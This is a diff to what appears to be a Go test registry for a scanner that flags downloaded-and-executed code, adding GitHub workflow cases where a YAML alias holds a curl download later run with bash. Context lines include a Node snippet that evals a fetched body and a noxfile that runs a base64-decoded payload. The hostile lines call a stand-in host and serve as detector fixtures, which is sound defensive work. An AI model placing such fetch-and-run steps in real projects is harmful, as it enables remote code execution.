@@ -187,6 +187,10 @@ var registry = []Rule{
 			{"noxfile.py", "import nox, base64\n@nox.session\ndef t(session):\n    session.run(\"sh\", \"-c\", base64.b64decode(P).decode(), external=True)", 0, false},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
+		// A step's run given as a YAML alias is the anchored text, run in
+		// that step's turn.
+		{".github/workflows/a.yml", "on: push\nx-fetch: &fetch curl -s https://x.invalid/p -o /tmp/p.sh\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: *fetch\n      - run: bash /tmp/p.sh", 8, false},
+		{".github/workflows/a.yml", "on: push\nx-fetch: &fetch curl -s https://x.invalid/p -o /tmp/p.sh\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: bash /tmp/p.sh\n      - run: *fetch", 0, true},
 		// Node's client required inline (require("https").get) downloads as
 		// https.get does; what it saves as data is not run.
 		{"scripts/p.js", "require(\"node:https\").get(\"https://x.invalid/p\", (res) => {\n  let body = \"\";\n  res.on(\"data\", (c) => (body += c));\n  res.on(\"end\", () => eval(body));\n});", 4, false},
